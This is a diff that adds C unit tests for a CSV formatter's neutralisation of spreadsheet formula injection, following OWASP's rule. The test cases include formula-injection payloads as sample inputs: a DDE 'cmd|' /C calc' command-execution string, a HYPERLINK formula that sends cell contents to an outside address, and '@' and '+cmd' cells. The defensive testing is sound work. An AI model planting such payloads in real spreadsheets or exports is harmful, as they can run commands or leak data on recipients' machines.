@@ -9,7 +9,10 @@
 #include <stdlib.h>
 #include <string.h>
 
+#include "buf.h"
 #include "csv.h"
+#include "format.h"
+#include "report_doc.h"
 #include "testdb.h"
 
 static struct csv *
@@ -181,6 +184,121 @@ START_TEST(csv_caps_the_fields)
 }
 END_TEST
 
+/* s as format_csv_field() or format_csv_number() writes it (static). */
+static const char *
+field(const char *s, int number)
+{
+	static char out[256];
+	struct buf b = BUF_INIT;
+
+	if (number)
+		format_csv_number(&b, s);
+	else
+		format_csv_field(&b, s);
+	ck_assert(!b.failed);
+	snprintf(out, sizeof(out), "%s", buf_str(&b));
+	buf_free(&b);
+	return out;
+}
+
+/* OWASP's rule against CSV injection, cell by cell: what a spreadsheet
+ * would run as a formula gets a leading ', and so does a leading ',
+ * so that a reader can always drop it; numbers the program typed stay
+ * numbers. */
+START_TEST(csv_fields_are_neutralised)
+{
+	static const struct {
+		const char *in, *text, *number;
+	} cases[] = {
+		{ "=1+1", "'=1+1", "'=1+1" },
+		{ "+33 6", "'+33 6", "'+33 6" },
+		{ "-1", "'-1", "-1" },
+		{ "-2.5", "'-2.5", "-2.5" },
+		{ "1e-05", "1e-05", "1e-05" },
+		{ "-3+cmd|' /C calc'!A0", "'-3+cmd|' /C calc'!A0",
+		  "'-3+cmd|' /C calc'!A0" },
+		{ "@SOMME(A1)", "'@SOMME(A1)", "'@SOMME(A1)" },
+		{ "\tx", "'\tx", "'\tx" },
+		{ "\rx", "\"'\rx\"", "\"'\rx\"" },
+		{ "'cité'", "''cité'", "''cité'" },
+		{ "=HYPERLINK(\"http://x/?\"&A2,\"cliquez\")",
+		  "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"cliquez\"\")\"",
+		  "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"cliquez\"\")\"" },
+		{ "a=b, c", "\"a=b, c\"", "\"a=b, c\"" },
+		{ "12", "12", "12" },
+		{ "", "", "" },
+		{ "-", "'-", "'-" },
+		{ "-.5", "'-.5", "'-.5" },
+	};
+	size_t i;
+
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		ck_assert_str_eq(field(cases[i].in, 0), cases[i].text);
+		ck_assert_str_eq(field(cases[i].in, 1), cases[i].number);
+	}
+	ck_assert_str_eq(field(NULL, 0), "");
+	ck_assert_str_eq(field(NULL, 1), "");
+}
+END_TEST
+
+/* The report's CSV: labels that read as formulas are neutralised, a
+ * negative statistic stays a number. */
+START_TEST(report_csv_is_neutralised)
+{
+	struct rdoc *doc = rdoc_new();
+	struct buf out = BUF_INIT;
+	struct msp_error err;
+	struct rtable *t;
+	struct rrow *r;
+	struct csv *csv = NULL;
+	size_t i, seen = 0;
+
+	ck_assert_ptr_nonnull(doc);
+	t = rdoc_table(doc, "t", "Titre", 2);
+	ck_assert_ptr_nonnull(t);
+	rtable_column(doc, t, 0, "a", "@colonne");
+	rtable_column(doc, t, 1, "b", "B");
+	r = rtable_row(doc, t, "v", "=1+1", "c", "-5 ans");
+	ck_assert_ptr_nonnull(r);
+	r->cells[0].kind = RCELL_SUMMARY;
+	r->cells[0].n = 3;
+	r->cells[0].median = -4;
+	r->cells[0].min = -10;
+	r->cells[0].max = 2;
+	r->cells[0].mean = -3.5;
+	rcell_text(doc, &r->cells[1], "+cmd");
+	ck_assert_int_eq(rdoc_status(doc, NULL), MSP_OK);
+	ck_assert_int_eq(format_render(doc, FORMAT_CSV, &out, &err), MSP_OK);
+	ck_assert_int_eq(csv_parse(out.data, out.len, ',', &csv, &err),
+			 MSP_OK);
+	for (i = 1; i < csv->n_rows; i++) {
+		char **f = csv->rows[i].fields;
+
+		ck_assert_uint_eq(csv->rows[i].n, 10);
+		ck_assert_str_eq(f[2], "'=1+1");
+		ck_assert_str_eq(f[4], "'-5 ans");
+		if (strcmp(f[5], "a") == 0) {
+			ck_assert_str_eq(f[6], "'@colonne");
+			if (strcmp(f[7], "mean") == 0) {
+				ck_assert_str_eq(f[8], "-3.5");
+				seen++;
+			}
+			if (strcmp(f[7], "min") == 0) {
+				ck_assert_str_eq(f[8], "-10");
+				seen++;
+			}
+		} else if (strcmp(f[7], "text") == 0) {
+			ck_assert_str_eq(f[9], "'+cmd");
+			seen++;
+		}
+	}
+	ck_assert_uint_eq(seen, 3);
+	csv_free(csv);
+	buf_free(&out);
+	rdoc_free(doc);
+}
+END_TEST
+
 static Suite *
 csv_suite(void)
 {
@@ -193,6 +311,8 @@ csv_suite(void)
 	tcase_add_test(tc, csv_skips_empty_lines);
 	tcase_add_test(tc, csv_errors_name_the_line);
 	tcase_add_test(tc, csv_caps_the_fields);
+	tcase_add_test(tc, csv_fields_are_neutralised);
+	tcase_add_test(tc, report_csv_is_neutralised);
 	suite_add_tcase(s, tc);
 	return s;
 }
